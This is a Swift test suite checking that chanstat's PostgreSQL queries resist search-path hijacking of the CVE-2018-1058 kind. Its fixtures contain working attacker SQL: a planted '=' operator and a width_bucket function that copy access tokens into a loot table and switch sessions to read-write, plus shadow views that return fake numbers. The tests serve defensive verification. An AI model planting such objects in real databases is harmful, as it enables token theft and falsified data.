import ChanstatCore
@testable import ChanstatPostgres
import ChanstatTestSupport
import Foundation
import PostgresNIO
import Testing

extension PostgresServerTests {
    /// PostgreSQL's CVE-2018-1058 class, as a neighbour role with a foothold tries it: on a database where PUBLIC may
    /// create in schema `public` (PostgreSQL 14 and older, and every database upgraded from them), another login
    /// role plants an operator `public.=(varchar, text)` that catches the token comparison and a function
    /// `public.width_bucket(timestamp, timestamp[])` that catches the day-by-day query (both record what they see
    /// and turn the session's default read-only setting off, so that the next statement may write), and, with
    /// CREATE on the database, a schema named after chanstat's role whose `conversations` view has other numbers.
    /// Through `report`, `report --by day`, the trend's days by team, agent and label, and serve's token check, nothing
    /// of it runs and the numbers are real.
    @Suite(.enabled(if: PostgresCluster.isAvailable && ChanstatBinary.isBuilt, "needs PostgreSQL and a built chanstat"),
           .timeLimit(.minutes(4)))
    struct SearchPathHijackTests {
        static let range = ["--since", "2026-11-01", "--until", "2026-11-08", "--utc"]
        static let realReport = #"{"Channel::Email":{"open":2,"resolved":1,"pending":0,"snoozed":0,"total":3}}"#
        static let administratorToken = "administrator-token-4a1b"

        /// A Chatwoot database as PostgreSQL 14 left it, chanstat's role `reader` with SELECT on the six tables, and
        /// the attacker's plants. Returns the database and chanstat's role.
        static func plantedDatabase() throws -> (ChatwootDatabase, reader: String, attacker: String) {
            let database = try ChatwootDatabase.make()
            let suffix = UUID().uuidString.prefix(6).lowercased()
            let reader = "reader_\(suffix)", attacker = "mallory_\(suffix)"
            try database.cluster.createRole(reader, password: nil)
            try database.cluster.createRole(attacker, password: nil)
            try database.sql("""
                INSERT INTO accounts (id, name) VALUES (1, 'Acme');
                INSERT INTO inboxes (id, account_id, name, channel_type) VALUES (1, 1, 'Mail', 'Channel::Email');
                INSERT INTO conversations (account_id, inbox_id, status, created_at) VALUES
                    (1, 1, 0, '2026-11-02 10:00:00'), (1, 1, 0, '2026-11-03 10:00:00'), (1, 1, 1, '2026-11-04 10:00:00');
                INSERT INTO users (id, name) VALUES (1, 'Ann');
                INSERT INTO account_users (account_id, user_id, role) VALUES (1, 1, 1);
                INSERT INTO access_tokens (owner_type, owner_id, token) VALUES ('User', 1, '\(administratorToken)');
                GRANT SELECT ON \(GuestOnProductionTests.sixTables) TO \(reader);
                GRANT CREATE ON SCHEMA public TO PUBLIC;
                GRANT CREATE ON DATABASE \(database.name) TO \(attacker);
                """)
            try database.sql("""
                CREATE TABLE public.loot (what text);
                GRANT INSERT ON public.loot TO PUBLIC;
                -- Called as the caller (chanstat's role): records, and switches the session's default to read-write
                -- so that the next statement may write; the insert itself fails quietly while that one is read-only.
                CREATE FUNCTION public.token_equals(a varchar, b text) RETURNS boolean LANGUAGE plpgsql AS $$
                BEGIN
                    PERFORM pg_catalog.set_config('default_transaction_read_only', 'off', false);
                    BEGIN
                        INSERT INTO public.loot VALUES ('token ' || b);
                    EXCEPTION WHEN read_only_sql_transaction THEN NULL;
                    END;
                    RETURN a::text OPERATOR(pg_catalog.=) b;
                END $$;
                CREATE OPERATOR public.= (LEFTARG = varchar, RIGHTARG = text, FUNCTION = public.token_equals);
                CREATE FUNCTION public.width_bucket(t timestamp, b timestamp[]) RETURNS integer LANGUAGE plpgsql AS $$
                BEGIN
                    PERFORM pg_catalog.set_config('default_transaction_read_only', 'off', false);
                    BEGIN
                        INSERT INTO public.loot SELECT 'copied ' || token FROM public.access_tokens;
                    EXCEPTION WHEN read_only_sql_transaction THEN NULL;
                    END;
                    RETURN pg_catalog.width_bucket(t, b);
                END $$;
                CREATE SCHEMA \(reader);
                CREATE VIEW \(reader).conversations AS
                    SELECT g AS id, 1 AS account_id, 1 AS inbox_id, 0 AS status, timestamp '2026-11-05 08:00' AS created_at
                      FROM pg_catalog.generate_series(1, 999) AS g;
                GRANT USAGE ON SCHEMA \(reader) TO \(reader);
                GRANT SELECT ON \(reader).conversations TO \(reader);
                """, user: attacker)
            return (database, reader, attacker)
        }

        static func loot(_ database: ChatwootDatabase) throws -> String {
            try database.sql("SELECT coalesce(string_agg(what, ', '), '') FROM public.loot")
        }

        /// The plants work on this server: a client with the usual search path falls into each of them. Without
        /// this the tests below could pass against a server where the attack is impossible.
        @Test func thePlantsCatchAnUnqualifiedClient() throws {
            let (database, reader, attacker) = try Self.plantedDatabase()
            let caught = try database.sql("""
                SELECT count(*) FROM access_tokens WHERE token = 'probe'::text;
                SELECT width_bucket(timestamp '2026-11-02', ARRAY[timestamp '2026-11-01']);
                SELECT count(*) FROM conversations;
                """, user: reader)
            #expect(caught.split(separator: "\n") == ["0", "1", "999"])
            #expect(try Self.loot(database).contains("token probe"))
            #expect(try Self.loot(database).contains("copied \(Self.administratorToken)"))
            try database.sql("DELETE FROM public.loot", user: attacker)
        }

        @Test func reportReadsChatwootsTablesAndRunsNothingOfTheAttackers() throws {
            let (database, reader, _) = try Self.plantedDatabase()
            // Twice: a session left read-write by the first run would let the second one write.
            for _ in 0..<2 {
                let report = try ChanstatBinary.run(["report", "--db", database.url(user: reader), "--account", "1",
                                                     "--format", "json"] + Self.range)
                #expect(report.status == 0, "\(report.stderr)")
                #expect(report.stdout.trimmingCharacters(in: .whitespacesAndNewlines) == Self.realReport)
            }
            #expect(try Self.loot(database) == "")
        }

        @Test func theDayByDayQueryCallsPgCatalogsWidthBucket() throws {
            let (database, reader, _) = try Self.plantedDatabase()
            for _ in 0..<2 {
                let report = try ChanstatBinary.run(["report", "--db", database.url(user: reader), "--account", "1",
                                                     "--by", "day", "--format", "csv"] + Self.range)
                #expect(report.status == 0, "\(report.stderr)")
                // One row per day with something counted: the real three conversations on their days.
                let rows = report.stdout.split(separator: "\n").dropFirst().map { $0.split(separator: ",").prefix(2).joined(separator: ",") }
                #expect(rows == ["2026-11-02,Channel::Email", "2026-11-03,Channel::Email", "2026-11-04,Channel::Email"],
                        "\(report.stdout)")
            }
            #expect(try Self.loot(database) == "")
        }

        /// A list compares label names, channel types and ids with pg_catalog's operators: the planted
        /// `public.=(varchar, text)` sees no label name and the list is the real one.
        @Test func aListRunsNothingOfTheAttackers() throws {
            let (database, reader, _) = try Self.plantedDatabase()
            try database.sql("""
                ALTER TABLE conversations ADD COLUMN team_id bigint, ADD COLUMN waiting_since timestamp,
                    ADD COLUMN first_reply_created_at timestamp;
                ALTER TABLE users ADD COLUMN display_name varchar;
                CREATE TABLE teams (id bigserial PRIMARY KEY, account_id bigint NOT NULL, name varchar);
                CREATE TABLE tags (id serial PRIMARY KEY, name varchar);
                CREATE TABLE taggings (id serial PRIMARY KEY, tag_id integer, taggable_type varchar, taggable_id integer,
                    context varchar(128));
                INSERT INTO tags (id, name) VALUES (1, 'vip');
                INSERT INTO taggings (tag_id, taggable_type, taggable_id, context)
                    SELECT 1, 'Conversation', id, 'labels' FROM conversations WHERE status = 0;
                GRANT SELECT ON teams, tags, taggings TO \(reader);
                """)
            for _ in 0..<2 {
                let list = try ChanstatBinary.run(["report", "--db", database.url(user: reader), "--account", "1", "--list",
                                                   "--channel", "Channel::Email", "--label", "vip", "--format", "csv"] + Self.range)
                #expect(list.status == 0, "\(list.stderr)")
                // The two open conversations of the real table, not the planted view's 999.
                #expect(list.stdout.split(separator: "\n").count == 3, "\(list.stdout)")
            }
            #expect(try Self.loot(database) == "")
        }

        /// serve's token check compares with pg_catalog's equality: the planted operator never sees a token, and
        /// the report it serves has the real numbers.
        @Test func servesTokenCheckHandsNoTokenToThePlantedOperator() throws {
            let (database, reader, _) = try Self.plantedDatabase()
            let serve = try ServeProcess(database: database.url(user: reader), arguments: ["--cache-seconds", "0"])
            defer { serve.stop() }
            let path = "/api/v2/accounts/1/summary_reports/channel?since=1793491200&until=1794096000"
            for token in ["guessed-token-1", "guessed-token-2", Self.administratorToken, Self.administratorToken] {
                let answer = try Shell.run("curl", ["-s", "-w", "\n%{http_code}", "-H", "Api-Access-Token: \(token)", serve.url + path])
                let expected = token == Self.administratorToken ? "\(Self.realReport)\n200" : "401"
                #expect(answer.stdout.hasSuffix(expected), "\(answer.stdout)")
            }
            #expect(try Self.loot(database) == "")
        }

        /// The planted database with Chatwoot's optional tables (the open conversations in team Billing, assigned to
        /// Ann; the resolved one labelled vip), and the attacker's views of the same names in a schema named after
        /// chanstat's role, with other names.
        static func plantedWithGroups() throws -> (ChatwootDatabase, reader: String) {
            let (database, reader, attacker) = try Self.plantedDatabase()
            try database.sql("""
                ALTER TABLE conversations ADD COLUMN team_id bigint;
                ALTER TABLE users ADD COLUMN display_name varchar;
                CREATE TABLE teams (id bigserial PRIMARY KEY, name varchar NOT NULL, account_id bigint NOT NULL);
                CREATE TABLE tags (id serial PRIMARY KEY, name varchar);
                CREATE TABLE taggings (id serial PRIMARY KEY, tag_id integer, taggable_type varchar, taggable_id integer,
                    context varchar(128));
                INSERT INTO teams (id, name, account_id) VALUES (1, 'Billing', 1);
                INSERT INTO tags (id, name) VALUES (1, 'vip');
                UPDATE conversations SET team_id = 1, assignee_id = 1 WHERE status = 0;
                INSERT INTO taggings (tag_id, taggable_type, taggable_id, context)
                    SELECT 1, 'Conversation', id, 'labels' FROM conversations WHERE status = 1;
                GRANT SELECT ON teams, tags, taggings TO \(reader);
                """)
            try database.sql("""
                CREATE VIEW \(reader).teams AS SELECT 1::bigint AS id, 'Planted'::varchar AS name, 1::bigint AS account_id;
                CREATE VIEW \(reader).users AS SELECT 1 AS id, 'Planted'::varchar AS name, 'Planted'::varchar AS display_name;
                CREATE VIEW \(reader).tags AS SELECT 1 AS id, 'planted'::varchar AS name;
                GRANT SELECT ON \(reader).teams, \(reader).users, \(reader).tags TO \(reader);
                """, user: attacker)
            return (database, reader)
        }

        /// The group queries (`--by team|agent|label`) name Chatwoot's tables in `public` and compare with
        /// pg_catalog's operators: the attacker's views of the same names in a schema named after chanstat's role
        /// are never read, and the planted `=(varchar, text)` never sees the label comparison, whichever way the
        /// label statement counts (`ChatwootDatabase.labelPlans`).
        @Test func theGroupQueriesReadChatwootsTablesOnly() throws {
            let (database, reader) = try Self.plantedWithGroups()
            let expected = [
                "team": "group_key,group_name,open,resolved,pending,snoozed,total\n1,Billing,2,0,0,0,2\n,No team,0,1,0,0,1\n",
                "agent": "group_key,group_name,open,resolved,pending,snoozed,total\n1,Ann,2,0,0,0,2\n,Unassigned,0,1,0,0,1\n",
                "label": "group_key,group_name,open,resolved,pending,snoozed,total\n,No label,2,0,0,0,2\nvip,vip,0,1,0,0,1\n",
            ]
            for (settings, _) in ChatwootDatabase.labelPlans {
                try database.turnOff(settings)
                for (breakdown, csv) in expected {
                    let report = try ChanstatBinary.run(["report", "--db", database.url(user: reader), "--account", "1",
                                                         "--by", breakdown, "--format", "csv"] + Self.range)
                    #expect(report.status == 0, "\(report.stderr)")
                    #expect(report.stdout == csv, "\(breakdown), \(settings) off")
                }
            }
            #expect(try Self.loot(database) == "")
        }

        /// The trend's days by team, agent and label (`groupDaysQuery`) as well: pg_catalog's `width_bucket`, not the
        /// planted one, Chatwoot's tables, not the attacker's views; the real three conversations on their days
        /// (11-02 and 11-03 open in Billing, assigned to Ann, without a label; 11-04 resolved, vip).
        @Test func theGroupDayQueriesReadChatwootsTablesOnly() async throws {
            let (database, reader) = try Self.plantedWithGroups()
            let expected: [Breakdown: [String]] = [
                .team: ["Billing 1/0/0/0", "Billing 1/0/0/0", "No team 0/1/0/0"],
                .agent: ["Ann 1/0/0/0", "Ann 1/0/0/0", "Unassigned 0/1/0/0"],
                .label: ["No label 1/0/0/0", "No label 1/0/0/0", "vip 0/1/0/0"],
            ]
            let range = try DateRange(since: 1_793_491_200, until: 1_794_096_000)  // 2026-11-01 to 11-08 UTC
            // Twice each way: a session left read-write by the first run would let the second one write.
            for (settings, _) in ChatwootDatabase.labelPlans + ChatwootDatabase.labelPlans {
                try database.turnOff(settings)
                let source = try await database.source(account: 1, url: database.url(user: reader))
                try await source.closing {
                    for (breakdown, groups) in expected {
                        let daily = try await source.dailyReport(for: ReportRequest(range: range, breakdown: breakdown),
                                                                 calendar: .utc,
                                                                 progress: { _ in })
                        let lines = daily.fixtureLines.filter { !$0.contains(" total ") }
                        #expect(lines == zip(["2026-11-02", "2026-11-03", "2026-11-04"], groups).map { "\($0) \($1)" },
                                "\(breakdown), \(settings) off")
                    }
                }
            }
            #expect(try Self.loot(database) == "")
        }
    }
}
